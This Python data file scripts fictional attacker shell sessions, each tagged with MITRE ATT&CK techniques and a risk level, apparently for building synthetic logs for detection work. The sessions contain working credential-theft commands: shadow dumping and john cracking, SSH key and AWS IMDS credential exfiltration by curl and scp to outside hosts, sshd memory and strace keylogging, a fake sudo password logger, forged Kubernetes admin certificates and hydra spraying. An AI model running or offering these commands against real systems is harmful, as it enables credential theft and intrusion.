"""Malicious sessions: credential access (with the discovery and exfiltration around it)."""

from dsl import B, c, k, kp, p, ssh, wait, typo
from snips import (ID_UBUNTU, OS_RELEASE_JAMMY, aws_key, b64, bcrypt, chars, ed25519_pub, hexs, ident, openssh_key,
                   passwd, ps_rows, rsa_key, shadow, uname_a, yescrypt)

AK, SK = aws_key("app-02-role")
AK2, SK2 = aws_key("deploy-user-static")

SCENARIOS = [
    ssh("cred-dump-shadow", "julia.santos:ubuntu@web-03", style="debian",
        T="T1033 T1082 T1087.001 T1003.008",
        risk="HIGH-CRITICAL",
        desc="Stolen account checks who and where it is, lists login accounts, reads /etc/shadow with sudo and keeps a copy in /tmp",
        steps=[
            c("id", ID_UBUNTU),
            c(f"unmae{B}{B}{B}ame -a", uname_a("web-03")),
            c("cat /etc/os-release | head -4", "\n".join(OS_RELEASE_JAMMY.splitlines()[:4])),
            c("sudo -l", """
                Matching Defaults entries for ubuntu on web-03:
                    env_reset, mail_badpass, secure_path=/usr/local/sbin\\:/usr/local/bin\\:/usr/sbin\\:/usr/bin\\:/sbin\\:/bin\\:/snap/bin, use_pty

                User ubuntu may run the following commands on web-03:
                    (ALL : ALL) ALL
                    (ALL) NOPASSWD: ALL"""),
            c("grep -vE 'nologin|false' /etc/passwd", """
                root:x:0:0:root:/root:/bin/bash
                sync:x:4:65534:sync:/bin:/bin/sync
                ubuntu:x:1000:1000:Ubuntu:/home/ubuntu:/bin/bash
                deploy:x:1001:1001:Deploy user,,,:/home/deploy:/bin/bash
                mlopez:x:1002:1002:Maria Lopez,,,:/home/mlopez:/bin/bash
                backup-agent:x:998:998::/var/lib/backup-agent:/bin/bash"""),
            k("sudo cat /etc/shadow", shadow(["deploy", "mlopez", "backup-agent"], "web-03")),
            k("sudo cp /etc/shadow /tmp/.s && sudo chmod 644 /tmp/.s"),
            c("ls -la /tmp/.s", "-rw-r--r-- 1 root root 1423 Mar  4 02:17 /tmp/.s"),
        ]),

    ssh("unshadow-john-crack", "hiro.tanaka:root@build-02", style="plain",
        T="T1003.008 T1105 T1110.002",
        risk="HIGH-CRITICAL",
        desc="Root on a build host merges passwd and shadow with unshadow, downloads a wordlist and cracks the hashes with john",
        steps=[
            c("cd /dev/shm"),
            k("unshadow /etc/passwd /etc/shadow > .h"),
            c("wc -l .h", "34 .h"),
            k("curl -sLo rk.txt.gz http://198.51.100.77/w/rk.txt.gz && gunzip rk.txt.gz"),
            c("ls -lh", """
                total 134M
                -rw-r--r-- 1 root root 4.1K Mar 11 03:02 .h
                -rw-r--r-- 1 root root 134M Mar 11 03:03 rk.txt"""),
            c("which john || apt-get install -y -qq john >/dev/null", "/usr/sbin/john"),
            k("john --wordlist=rk.txt --format=crypt .h", """
                Using default input encoding: UTF-8
                Loaded 4 password hashes with 4 different salts (crypt, generic crypt(3) [?/64])
                Cost 1 (algorithm [1:descrypt 2:md5crypt 3:sunmd5 4:bcrypt 5:sha256crypt 6:sha512crypt]) is 0 for all loaded hashes
                Cost 2 (algorithm specific iterations) is 1 for all loaded hashes
                Will run 2 OpenMP threads
                Press 'q' or Ctrl-C to abort, almost any other key for status
                Winter2024!      (jenkins)
                buildbot123      (buildbot)
                2g 0:00:14:37 3.24% (ETA: 10:31:12) 0.002279g/s 511.2p/s 1023c/s 1023C/s 123abc..carolina1
                Session aborted""", run=880, ctrl_c=False),
            k("john --show .h", """
                jenkins:Winter2024!:1002:1002:Jenkins,,,:/var/lib/jenkins:/bin/bash
                buildbot:buildbot123:1003:1003::/home/buildbot:/bin/bash

                2 password hashes cracked, 2 left"""),
        ]),

    ssh("ssh-key-harvest-exfil", "dev.patel:root@bastion-01", style="rhel",
        T="T1083 T1552.004 T1560.001 T1048.003 T1070.004",
        risk="CRITICAL",
        desc="Root on the bastion hunts private SSH keys across home directories, archives them and uploads the archive over HTTP to an external host",
        steps=[
            c(typo("hostname; whoami", 4, "an"), "bastion-01\nroot"),
            k("find / -xdev -type f \\( -name 'id_rsa' -o -name 'id_ed25519' -o -name '*.pem' \\) 2>/dev/null", """
                /root/.ssh/id_ed25519
                /home/ansible/.ssh/id_rsa
                /home/ansible/.ssh/prod-deploy.pem
                /home/kwalsh/.ssh/id_ed25519
                /home/tbecker/.ssh/id_ed25519
                /etc/pki/tls/private/bastion-01.pem"""),
            k("cat /home/ansible/.ssh/id_rsa", rsa_key("ansible-bastion")),
            c("cat /home/ansible/.ssh/config", """
                Host prod-*
                    User ansible
                    IdentityFile ~/.ssh/prod-deploy.pem
                    StrictHostKeyChecking no
                Host 10.20.*
                    User ansible
                    IdentityFile ~/.ssh/id_rsa"""),
            k("tar czf /tmp/.k.tgz /root/.ssh /home/*/.ssh /etc/pki/tls/private 2>/dev/null"),
            c("ls -la /tmp/.k.tgz", "-rw-r--r--. 1 root root 18734 Mar 19 01:44 /tmp/.k.tgz"),
            kp("curl -s -T /tmp/.k.tgz http://203.0.113.80:8080/up/b01.tgz", "ok 18734"),
            k("rm -f /tmp/.k.tgz"),
        ]),

    ssh("aws-imds-creds-webhook", "omar.haddad:ec2-user@app-02", style="rhel",
        T="T1552.001 T1552.005 T1082 T1567.004",
        risk="CRITICAL",
        desc="Reads the static AWS keys in ~/.aws, steals the instance role's temporary credentials from IMDSv2 and posts both to an external webhook",
        steps=[
            c("cat /etc/system-release", "Amazon Linux release 2023.6.20241212 (Amazon Linux)"),
            k("cat ~/.aws/credentials", f"""
                [default]
                aws_access_key_id = {AK2}
                aws_secret_access_key = {SK2}
                region = eu-west-1"""),
            c("env | grep -i aws", "AWS_DEFAULT_REGION=eu-west-1\nAWS_PAGER="),
            kp('TOKEN=$(curl -s -X PUT "http://169.254.169.254/latest/api/token" -H "X-aws-ec2-metadata-token-ttl-seconds: 21600")'),
            p('curl -s -H "X-aws-ec2-metadata-token: $TOKEN" http://169.254.169.254/latest/meta-data/iam/security-credentials/', "app-prod-role", noout_newline=False),
            kp('curl -s -H "X-aws-ec2-metadata-token: $TOKEN" http://169.254.169.254/latest/meta-data/iam/security-credentials/app-prod-role | tee /tmp/.c.json', f"""
                {{
                  "Code" : "Success",
                  "LastUpdated" : "2025-03-07T01:12:44Z",
                  "Type" : "AWS-HMAC",
                  "AccessKeyId" : "ASIA{AK[4:]}",
                  "SecretAccessKey" : "{SK}",
                  "Token" : "IQoJb3JpZ2luX2VjEJr//////////wEaCWV1LXdlc3QtMSJHMEUCIQ{chars('imds-tok', 120)}",
                  "Expiration" : "2025-03-07T07:36:21Z"
                }}"""),
            kp("cat ~/.aws/credentials >> /tmp/.c.json; curl -s -X POST -H 'Content-Type: application/json' --data-binary @/tmp/.c.json https://hooks.cdn-sync.example/c/7f3a", '{"ok":true}'),
            c("rm /tmp/.c.json"),
        ]),

    ssh("proc-environ-secrets", "kevin.obrien:deploy@app-01", style="debian",
        T="T1057 T1552.001 T1003.007",
        risk="HIGH-CRITICAL",
        desc="Walks the application processes and dumps secrets from their /proc/<pid>/environ",
        steps=[
            c("ps -eo pid,user,etime,cmd --sort=pid | grep -E 'gunicorn|node|java' | grep -v grep", "\n".join([
                "   1874 app       21-03:11:52 /srv/shop/venv/bin/python3 /srv/shop/venv/bin/gunicorn shop.wsgi -b 127.0.0.1:8000 -w 4",
                "   1921 app       21-03:11:50 /srv/shop/venv/bin/python3 /srv/shop/venv/bin/gunicorn shop.wsgi -b 127.0.0.1:8000 -w 4",
                "   2210 app       21-03:11:47 /usr/bin/node /srv/notify/dist/server.js"])),
            k("sudo cat /proc/1874/environ | tr '\\0' '\\n'", f"""
                LANG=C.UTF-8
                PATH=/srv/shop/venv/bin:/usr/local/bin:/usr/bin:/bin
                DJANGO_SETTINGS_MODULE=shop.settings.prod
                DATABASE_URL=postgres://shop_app:{chars('shopdbpw', 20)}@pg-shop-01.internal:5432/shop
                REDIS_URL=redis://:{chars('redispw', 16)}@cache-01.internal:6379/0
                STRIPE_SECRET_KEY=sk_live_{chars('stripe-live', 40)}
                SENTRY_DSN=https://{hexs('sentry', 32)}@sentry.internal.acme-corp.example/4
                INVOCATION_ID={hexs('inv', 32)}
                JOURNAL_STREAM=8:24117"""),
            k("for p in $(pgrep -u app); do sudo tr '\\0' '\\n' < /proc/$p/environ | grep -iE 'key|secret|pass|token'; done | sort -u", f"""
                DATABASE_URL=postgres://shop_app:{chars('shopdbpw', 20)}@pg-shop-01.internal:5432/shop
                SMTP_PASSWORD={chars('smtppw', 18)}
                STRIPE_SECRET_KEY=sk_live_{chars('stripe-live', 40)}
                TWILIO_AUTH_TOKEN={hexs('twilio', 32)}"""),
        ]),

    ssh("gcore-sshd-memory", "frank.nguyen:root@bastion-02", style="plain",
        T="T1057 T1003.007 T1070.004",
        risk="CRITICAL",
        desc="Root dumps the memory of an sshd session process with gcore and greps the core for passwords, then deletes the dump",
        steps=[
            c("ps aux | grep 'sshd:' | grep -v grep", ps_rows([
                "root 1187 0.0 0.0 15436 9212 ? Ss Feb28 0:03 sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups",
                "root 40213 0.0 0.1 17304 11020 ? Ss 01:58 0:00 sshd: tbecker [priv]",
                "tbecker 40290 0.0 0.0 17564 6884 ? S 01:58 0:00 sshd: tbecker@pts/1",
                "root 40377 0.0 0.1 17304 10940 ? Ss 02:03 0:00 sshd: root@pts/2"]).split("\n", 1)[1]),
            c("which gcore gdb", "/usr/bin/gcore\n/usr/bin/gdb"),
            k("gcore -o /dev/shm/.c 40213", """
                [Thread debugging using libthread_db enabled]
                Using host libthread_db library "/lib/x86_64-linux-gnu/libthread_db.so.1".
                0x00007f3c1a9e5a7a in __GI___libc_read (fd=5, buf=0x7ffd4b1c0f2f, nbytes=1) at ../sysdeps/unix/sysv/linux/read.c:26
                26	../sysdeps/unix/sysv/linux/read.c: No such file or directory.
                Saved corefile /dev/shm/.c.40213
                [Inferior 1 (process 40213) detached]""", run=3),
            k("strings /dev/shm/.c.40213 | grep -iE -A1 'passw|tbecker' | head -20", f"""
                tbecker
                /home/tbecker
                PAM_USER=tbecker
                password
                {chars('tbecker-pw', 14)}
                tbecker@bastion-02
                SSH_CONNECTION=198.51.100.61 52144 10.20.1.4 22"""),
            k("shred -u /dev/shm/.c.40213"),
        ]),

    ssh("history-password-grep", "wendy.zhao:deploy@db-02", style="debian",
        T="T1552.003 T1083",
        risk="HIGH",
        desc="Greps the user's and everyone else's shell and client histories for passwords typed on command lines",
        steps=[
            c("ls -la ~", """
                total 44
                drwxr-x--- 5 deploy deploy 4096 Mar  3 11:20 .
                drwxr-xr-x 6 root   root   4096 Nov 12 09:41 ..
                -rw------- 1 deploy deploy 9214 Mar  3 11:20 .bash_history
                -rw-r--r-- 1 deploy deploy  220 Nov 12 09:41 .bash_logout
                -rw-r--r-- 1 deploy deploy 3771 Nov 12 09:41 .bashrc
                drwx------ 2 deploy deploy 4096 Nov 12 09:44 .cache
                -rw------- 1 deploy deploy  312 Feb 20 16:02 .mysql_history
                -rw------- 1 deploy deploy 1843 Mar  1 14:12 .psql_history
                drwx------ 2 deploy deploy 4096 Nov 12 09:41 .ssh"""),
            k("grep -iE 'pass|-p[^ ]|token|secret|PGPASSWORD' ~/.bash_history", f"""
                mysql -u root -p{chars('dbroot', 12)} -h 127.0.0.1
                export PGPASSWORD={chars('pgpw-db02', 16)}
                curl -u admin:{chars('grafana', 10)} http://monitor-01:3000/api/dashboards/uid/node
                vault login -method=userpass username=deploy password={chars('vaultpw', 14)}"""),
            k("sudo grep -hiE 'pass|IDENTIFIED BY|-p[A-Za-z0-9]' /root/.bash_history /home/*/.bash_history /root/.mysql_history 2>/dev/null | sort -u", f"""
                CREATE USER 'repl'@'10.20.%' IDENTIFIED BY '{chars('repl', 16)}';
                mysql -uroot -p{chars('dbroot', 12)}
                sshpass -p '{chars('sshpass', 12)}' ssh admin@10.20.4.11"""),
            c("cat ~/.pgpass", f"pg-billing-01.internal:5432:billing:billing_admin:{chars('billing', 18)}"),
        ]),

    ssh("config-credential-hunt", "carol.diaz:www-data@web-01", style="plain",
        T="T1083 T1552.001",
        risk="HIGH",
        desc="Recursively greps web roots and /etc for passwords and API keys, then reads the .env and wp-config files found",
        steps=[
            k("grep -rniE '(password|passwd|secret|api_key)\\s*[:=]' /var/www /opt /etc --include=*.php --include=*.env --include=*.yml --include=*.conf 2>/dev/null | head -20", f"""
                /var/www/shop/.env:12:DB_PASSWORD={chars('shopenv', 18)}
                /var/www/shop/.env:19:MAIL_PASSWORD={chars('mailenv', 12)}
                /var/www/shop/config/services.yml:31:    api_key: "{chars('mailgun', 32)}"
                /var/www/blog/wp-config.php:26:define( 'DB_PASSWORD', '{chars('wpdb', 16)}' );
                /opt/backup/backup.conf:4:S3_SECRET={chars('s3sec', 40)}
                /etc/grafana/grafana.ini:243:;admin_password = admin"""),
            k("cat /var/www/shop/.env", f"""
                APP_NAME=Shop
                APP_ENV=production
                APP_KEY=base64:{b64(chars('appkey', 32))}
                APP_DEBUG=false
                APP_URL=https://shop.acme-corp.example

                DB_CONNECTION=mysql
                DB_HOST=mysql-shop-01.internal
                DB_PORT=3306
                DB_DATABASE=shop
                DB_USERNAME=shop
                DB_PASSWORD={chars('shopenv', 18)}

                MAIL_MAILER=smtp
                MAIL_HOST=smtp.mailgun.org
                MAIL_PORT=587
                MAIL_USERNAME=postmaster@mg.acme-corp.example
                MAIL_PASSWORD={chars('mailenv', 12)}"""),
            c("grep DB_ /var/www/blog/wp-config.php", f"""
                define( 'DB_NAME', 'wordpress' );
                define( 'DB_USER', 'wp' );
                define( 'DB_PASSWORD', '{chars('wpdb', 16)}' );
                define( 'DB_HOST', 'localhost' );
                define( 'DB_CHARSET', 'utf8mb4' );"""),
            c("cat /opt/backup/backup.conf", f"cat: /opt/backup/backup.conf: Permission denied"),
        ]),

    ssh("browser-creds-devvm", "priya.raman@dev-vm-14", style="debian",
        T="T1555.003 T1074.001 T1560.001 T1048.002",
        risk="HIGH-CRITICAL",
        desc="On a developer VM, copies Firefox and Chrome credential stores, queries saved logins, packs them and scps them out",
        steps=[
            c("ls ~/.mozilla/firefox/", "installs.ini  profiles.ini  x8k2pd1q.default-release"),
            k("mkdir -p /tmp/.f && cp ~/.mozilla/firefox/x8k2pd1q.default-release/{logins.json,key4.db,cookies.sqlite} /tmp/.f/"),
            k("cp ~/.config/google-chrome/Default/Login\\ Data /tmp/.f/chrome-login.db; cp ~/.config/google-chrome/Local\\ State /tmp/.f/"),
            k('sqlite3 /tmp/.f/chrome-login.db "SELECT origin_url, username_value, length(password_value) FROM logins"', """
                https://github.com/session|priya-raman|31
                https://grafana.internal.acme-corp.example/login|praman|31
                https://console.aws.amazon.com/|priya.raman@acme-corp.example|39
                https://jira.acme-corp.example/login.jsp|praman|31"""),
            k("tar czf /tmp/.f.tgz -C /tmp .f && scp -q -P 2222 /tmp/.f.tgz u7@203.0.113.21:/in/", ""),
            c("rm -rf /tmp/.f /tmp/.f.tgz"),
        ]),

    ssh("vault-token-secrets", "ivan.petrov:deploy@ci-runner-03", style="debian",
        T="T1552.001 T1555.006",
        risk="HIGH-CRITICAL",
        desc="Reuses a Vault token left on a CI runner to enumerate and read production secrets",
        steps=[
            k("cat ~/.vault-token; echo", "hvs.CAESI" + chars("vault-token", 86, "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789_-")),
            c("export VAULT_ADDR=https://vault.internal.acme-corp.example:8200"),
            c("vault token lookup | grep -E 'policies|ttl|display_name'", """
                display_name        approle-ci
                explicit_max_ttl    0s
                policies            [ci-deploy default prod-read]
                ttl                 719h42m11s"""),
            c(f"vault kv lsit{B}{B}{B}ist secret/prod", "Keys\n----\napi/\npayments/\nshop/\nstripe"),
            k("vault kv get -format=json secret/prod/payments/db", f"""
                {{
                  "request_id": "{hexs('req1', 8)}-{hexs('req2', 4)}-{hexs('req3', 4)}-{hexs('req4', 4)}-{hexs('req5', 12)}",
                  "lease_id": "",
                  "lease_duration": 0,
                  "renewable": false,
                  "data": {{
                    "data": {{
                      "host": "pg-payments-01.internal",
                      "password": "{chars('payments-db', 24)}",
                      "username": "payments_app"
                    }},
                    "metadata": {{
                      "created_time": "2024-11-04T10:12:33.118274Z",
                      "version": 7
                    }}
                  }}
                }}"""),
            k("vault kv get -field=secret_key secret/prod/stripe", f"sk_live_{chars('stripe-live', 40)}"),
        ]),

    ssh("kubeconfig-secret-theft", "sam.okafor@bastion-01", style="debian",
        T="T1552.001 T1613 T1552.007",
        risk="HIGH-CRITICAL",
        desc="Prints the raw kubeconfig with embedded client key, then lists and decodes production Kubernetes secrets",
        steps=[
            k("kubectl config view --raw --minify", f"""
                apiVersion: v1
                clusters:
                - cluster:
                    certificate-authority-data: {b64(chars('ca-data', 60))}
                    server: https://10.40.0.10:6443
                  name: prod-eu-1
                contexts:
                - context:
                    cluster: prod-eu-1
                    user: ops-admin
                  name: prod-eu-1
                current-context: prod-eu-1
                kind: Config
                preferences: {{}}
                users:
                - name: ops-admin
                  user:
                    client-certificate-data: {b64(chars('client-cert', 60))}
                    client-key-data: {b64(chars('client-key', 60))}"""),
            c("kubectl auth can-i --list -n payments | head -6", """
                Resources   Non-Resource URLs   Resource Names   Verbs
                *.*         []                  []               [*]
                            [*]                 []               [*]"""),
            c("kubectl get secrets -n payments", """
                NAME                      TYPE                             DATA   AGE
                default-token-4kq9x       kubernetes.io/service-account-token   3  412d
                payments-db-credentials   Opaque                           3      412d
                stripe-api                Opaque                           2      201d
                tls-payments              kubernetes.io/tls                2      88d"""),
            k("kubectl get secret payments-db-credentials -n payments -o jsonpath='{.data.password}' | base64 -d; echo",
              chars("payments-db", 24)),
            k("kubectl get secret stripe-api -n payments -o yaml", f"""
                apiVersion: v1
                data:
                  publishable_key: {b64('pk_live_' + chars('stripe-pk', 24))}
                  secret_key: {b64('sk_live_' + chars('stripe-live', 40))}
                kind: Secret
                metadata:
                  creationTimestamp: "2024-08-19T09:14:02Z"
                  name: stripe-api
                  namespace: payments
                  resourceVersion: "88214470"
                  uid: 6c1e0f7a-91d3-4f4e-b0b5-2f4f7d8a1c93
                type: Opaque"""),
        ]),

    ssh("git-docker-credentials", "tom.becker:jenkins@ci-runner-01", style="plain",
        T="T1552.001 T1083",
        risk="HIGH",
        desc="Collects stored Git and Docker registry credentials on a CI runner and decodes the registry auth",
        steps=[
            c(f"ls -la ~ | grep -E '^\\-.*\\.(git|docker|npmrc|netrc)'", """
                -rw------- 1 jenkins jenkins   94 Jan 14 10:02 .git-credentials
                -rw------- 1 jenkins jenkins   64 Jan 14 10:04 .netrc
                -rw-r--r-- 1 jenkins jenkins  121 Oct  2 15:27 .npmrc"""),
            k("cat ~/.git-credentials ~/.netrc ~/.npmrc", f"""
                https://ci-bot:ghp_{chars('ghp', 36)}@github.com
                https://ci-bot:glpat-{chars('glpat', 20)}@gitlab.internal.acme-corp.example
                machine artifactory.internal.acme-corp.example login ci password {chars('artif', 20)}
                //registry.npmjs.org/:_authToken=npm_{chars('npmtok', 36)}
                always-auth=true"""),
            k("cat ~/.docker/config.json", f"""
                {{
                	"auths": {{
                		"registry.acme-corp.example": {{
                			"auth": "{b64('ci-push:' + chars('regpw', 20))}"
                		}}
                	}}
                }}"""),
            c(f"echo {b64('ci-push:' + chars('regpw', 20))} | base64 -d; echo", "ci-push:" + chars("regpw", 20)),
        ]),

    ssh("kerberos-ccache-reuse", "victor.ruiz@fs-02", style="rhel",
        T="T1558.005 T1039 T1083",
        risk="HIGH",
        desc="On an AD-joined Linux file server, copies another user's Kerberos ticket cache and uses it to browse a finance share",
        steps=[
            c(f"ls -la /tmp/krb{B}{B}{B}krb5cc_*", """
                -rw-------. 1 vruiz      domain users 1562 Mar 12 08:02 /tmp/krb5cc_1104_Xy7Lq2
                -rw-------. 1 a.kowalczyk domain users 1618 Mar 12 07:41 /tmp/krb5cc_1377_pQm0Ra"""),
            k("sudo cp /tmp/krb5cc_1377_pQm0Ra /dev/shm/.cc && sudo chown vruiz /dev/shm/.cc"),
            k("export KRB5CCNAME=FILE:/dev/shm/.cc; klist", """
                Ticket cache: FILE:/dev/shm/.cc
                Default principal: a.kowalczyk@CORP.ACME-CORP.EXAMPLE

                Valid starting       Expires              Service principal
                03/12/2025 07:41:09  03/12/2025 17:41:09  krbtgt/CORP.ACME-CORP.EXAMPLE@CORP.ACME-CORP.EXAMPLE
                	renew until 03/19/2025 07:41:09"""),
            k("smbclient -k //fs-01.corp.acme-corp.example/finance -c 'ls'", """
                  .                                   D        0  Tue Mar 11 17:20:44 2025
                  ..                                  D        0  Mon Jan  6 09:00:12 2025
                  2025-Q1 Board                       D        0  Fri Mar  7 12:31:05 2025
                  Payroll                             D        0  Tue Mar 11 17:20:44 2025
                  Vendor bank details.xlsx            A    48213  Wed Feb 12 10:44:31 2025

                		523239935 blocks of size 4096. 201119201 blocks available"""),
            k("smbclient -k //fs-01.corp.acme-corp.example/finance -c 'cd Payroll; prompt; mget *.xlsx'", """
                getting file \\Payroll\\2025-02 payroll.xlsx of size 311870 as 2025-02 payroll.xlsx (8711.3 KiloBytes/sec) (average 8711.3 KiloBytes/sec)
                getting file \\Payroll\\2025-03 payroll.xlsx of size 309114 as 2025-03 payroll.xlsx (9105.2 KiloBytes/sec) (average 8905.5 KiloBytes/sec)"""),
        ]),

    ssh("k8s-ca-key-forge-admin", "li.wei:root@k8s-cp-01", style="plain",
        T="T1552.004 T1649 T1083",
        risk="CRITICAL",
        desc="On a control-plane node, reads the cluster CA private key and signs a client certificate for system:masters",
        steps=[
            c("ls /etc/kubernetes/pki", """
                apiserver.crt              apiserver-etcd-client.key  apiserver-kubelet-client.crt  ca.crt  etcd                front-proxy-ca.key      front-proxy-client.key  sa.pub
                apiserver-etcd-client.crt  apiserver.key              apiserver-kubelet-client.key  ca.key  front-proxy-ca.crt  front-proxy-client.crt  sa.key"""),
            k("cp /etc/kubernetes/pki/ca.key /etc/kubernetes/pki/ca.crt /var/tmp/"),
            c("cd /var/tmp"),
            k("openssl genrsa -out adm.key 2048", ""),
            k('openssl req -new -key adm.key -subj "/CN=cluster-admin-2/O=system:masters" -out adm.csr'),
            k("openssl x509 -req -in adm.csr -CA ca.crt -CAkey ca.key -CAcreateserial -out adm.crt -days 3650", """
                Certificate request self-signature ok
                subject=CN = cluster-admin-2, O = system:masters"""),
            c("kubectl --server https://127.0.0.1:6443 --certificate-authority ca.crt --client-certificate adm.crt --client-key adm.key get nodes", """
                NAME        STATUS   ROLES           AGE    VERSION
                k8s-cp-01   Ready    control-plane   402d   v1.29.6
                k8s-cp-02   Ready    control-plane   402d   v1.29.6
                k8s-w-01    Ready    <none>          402d   v1.29.6
                k8s-w-02    Ready    <none>          398d   v1.29.6"""),
            c("tar czf .pki.tgz ca.key ca.crt adm.key adm.crt && rm -f ca.key adm.csr ca.srl"),
        ]),

    ssh("tcpdump-cleartext-creds", "erin.walsh:root@legacy-ftp-01", style="rhel",
        T="T1040 T1016",
        risk="HIGH",
        desc="Root sniffs FTP/POP3/HTTP traffic with tcpdump into a hidden pcap and extracts cleartext credentials",
        steps=[
            c("ip -br a", "lo               UNKNOWN        127.0.0.1/8 ::1/128\neth0             UP             10.30.2.14/24"),
            k("nohup tcpdump -i eth0 -nn -s0 -w /dev/shm/.p.pcap 'tcp port 21 or tcp port 110 or tcp port 80' >/dev/null 2>&1 &", "[1] 88213"),
            wait(900),
            c("ls -la /dev/shm/.p.pcap", "-rw-r--r--. 1 tcpdump tcpdump 4217731 Mar 20 03:29 /dev/shm/.p.pcap"),
            k("tcpdump -nn -A -r /dev/shm/.p.pcap 2>/dev/null | grep -E 'USER |PASS |Authorization: Basic' | sort -u", f"""
                USER edi_partner
                PASS {chars('edi', 12)}
                USER scanner
                PASS {chars('scan', 10)}
                Authorization: Basic {b64('reports:' + chars('reports', 12))}"""),
            c("kill %1", "[1]+  Terminated              nohup tcpdump -i eth0 -nn -s0 -w /dev/shm/.p.pcap 'tcp port 21 or tcp port 110 or tcp port 80' > /dev/null 2>&1"),
        ]),

    ssh("strace-sshd-keylogger", "nina.kowalski:root@jump-02", style="plain",
        T="T1057 T1056.001",
        risk="HIGH-CRITICAL",
        desc="Attaches strace to the sshd listener to capture keystrokes and passwords of every new SSH login",
        steps=[
            c("pgrep -a sshd", "1102 sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups\n50211 sshd: ops [priv]\n50230 sshd: ops@pts/0"),
            k("nohup strace -f -p 1102 -e trace=read,write -s 64 -o /var/tmp/.sys-cache.log >/dev/null 2>&1 &", "[1] 50388"),
            wait(1800),
            k("grep -aE 'read\\(6, \"\\\\f\\\\0\\\\0\\\\0' /var/tmp/.sys-cache.log | head -4", f"""
                50421 read(6, "\\f\\0\\0\\0\\vr.okonkwo-a", 16) = 16
                50421 read(6, "\\f\\0\\0\\0\\16{chars('okonkwo', 14)}", 19) = 19
                50602 read(6, "\\f\\0\\0\\0\\5admin", 10) = 10
                50602 read(6, "\\f\\0\\0\\0\\f{chars('adminjump', 12)}", 17) = 17"""),
        ]),

    ssh("fake-sudo-path-hijack", "grace.kim:gkim@ops-util-01", style="debian",
        T="T1574.007 T1056 T1546.004",
        risk="HIGH",
        desc="Plants a fake sudo earlier in PATH that records the password a colleague types, and wires it in via .bashrc",
        steps=[
            c("mkdir -p ~/.local/bin"),
            k("""cat > ~/.local/bin/sudo <<'EOF'
#!/bin/bash
read -rsp "[sudo] password for $USER: " pw; echo
echo "$(date +%s) $USER $pw" >> /var/tmp/.font-cache-1
echo "$pw" | /usr/bin/sudo -S -p '' "$@"
EOF"""),
            k("chmod +x ~/.local/bin/sudo"),
            k("echo 'export PATH=$HOME/.local/bin:$PATH' >> ~/.bashrc"),
            c("tail -2 ~/.bashrc", "fi\nexport PATH=$HOME/.local/bin:$PATH"),
            c("touch /var/tmp/.font-cache-1 && chmod 666 /var/tmp/.font-cache-1"),
        ]),

    ssh("hydra-ssh-spray", "bob.martin:ubuntu@ops-util-02", style="debian",
        T="T1018 T1046 T1110.003",
        risk="HIGH",
        desc="Sweeps an internal subnet for SSH and sprays one seasonal password across common usernames with hydra",
        steps=[
            k("nmap -sn -n 10.20.3.0/24 -oG - | awk '/Up$/{print $2}' > /tmp/h.txt; wc -l /tmp/h.txt", "37 /tmp/h.txt"),
            c("nmap -n -p22 --open -iL /tmp/h.txt -oG - | awk '/22\\/open/{print $2}' > /tmp/ssh.txt; wc -l /tmp/ssh.txt", "29 /tmp/ssh.txt", run=14),
            c("printf 'admin\\nubuntu\\ndeploy\\nansible\\nbackup\\noracle\\n' > /tmp/u.txt"),
            k("hydra -L /tmp/u.txt -p 'Spring2025!' -M /tmp/ssh.txt -t 4 -f ssh", """
                Hydra v9.2 (c) 2021 by van Hauser/THC & David Maciejak - Please do not use in military or secret service organizations, or for illegal purposes (this is non-binding, these *** ignore laws and ethics anyway).

                Hydra (https://github.com/vanhauser-thc/thc-hydra) starting at 2025-03-18 02:41:07
                [DATA] max 4 tasks per 29 servers, overall 64 tasks, 6 login tries (l:6/p:1), ~1 try per task
                [DATA] attacking ssh://(29 targets):22/
                [22][ssh] host: 10.20.3.41   login: backup   password: Spring2025!
                [22][ssh] host: 10.20.3.57   login: ansible   password: Spring2025!
                [STATUS] attack finished for 10.20.3.57 (valid pair found)
                29 of 29 targets successfully completed, 2 valid passwords found
                Hydra (https://github.com/vanhauser-thc/thc-hydra) finished at 2025-03-18 02:43:55""", run=168),
        ]),

    ssh("su-root-password-guessing", "uma.iyer:deploy@app-03", style="plain",
        T="T1033 T1110.001",
        risk="MEDIUM-HIGH",
        desc="Without sudo rights, repeatedly guesses the root password with su",
        steps=[
            c("sudo -l", "[sudo] password for deploy: \nSorry, user deploy may not run sudo on app-03."),
            c("su -", "Password: \nsu: Authentication failure", push=False),
            c("su -", "Password: \nsu: Authentication failure", push=False),
            c("su - root", "Password: \nsu: Authentication failure", push=False),
            c("su -", "Password: \nsu: Authentication failure", push=False),
            c("grep -c 'authentication failure' /var/log/auth.log", "grep: /var/log/auth.log: Permission denied"),
            c("su -", "Password: \nsu: Authentication failure", push=False),
        ]),
]
